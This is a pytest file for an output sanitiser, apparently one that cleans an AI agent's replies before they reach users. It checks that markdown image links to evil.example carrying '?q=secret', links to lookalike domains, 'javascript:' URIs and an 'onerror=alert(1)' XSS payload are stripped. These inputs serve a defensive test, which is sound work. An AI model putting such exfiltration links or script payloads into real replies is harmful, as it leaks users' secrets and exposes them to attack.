"""What a reply looks like when it leaves."""

import pytest

from dokani.agents.guards.output import LONGEST, REMOVED, text_only

OURS = ("https://shop.example",)


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("Hello\n\n\n\nyou", "Hello\n\nyou"),
        ("![x](https://evil.example/?q=secret)", "x"),
        ("![](https://evil.example/?q=secret)", ""),
        ("[your return](https://shop.example/r/1?t=2)", "your return https://shop.example/r/1?t=2"),
        ("[your return](https://evil.example/r)", f"your return {REMOVED}"),
        ("See https://shop.example.evil.example/x", f"See {REMOVED}"),
        ("See https://shop.example@evil.example/x", f"See {REMOVED}"),
        ("See https://evil@shop.example/x", f"See {REMOVED}"),
        ("See //evil.example/x and www.evil.example", f"See {REMOVED} and {REMOVED}"),
        ("javascript:alert(1)", REMOVED),
        ("data:text/html,x", REMOVED),
        ("<b>bold</b><img src=x onerror=alert(1)><script>x</script>", "boldx"),
        ("<i<b>mg src=x>Hi <a<d>>", "Hi"),
        ("a\x00b\u202ec\u200bd", "abcd"),
        ("5 < 6 and 7 > 6", "5 < 6 and 7 > 6"),
        ("HTTPS://EVIL.example", REMOVED),
        ("হ্যাঁ, ঠিক আছে।", "হ্যাঁ, ঠিক আছে।"),
    ],
)
def test_only_text_and_our_own_addresses_are_left(said: str, left: str) -> None:
    assert text_only(said, OURS) == left


def test_it_ends_somewhere() -> None:
    assert len(text_only("x" * 100_000)) == LONGEST
    assert text_only("https://" + "a" * 50_000) == REMOVED
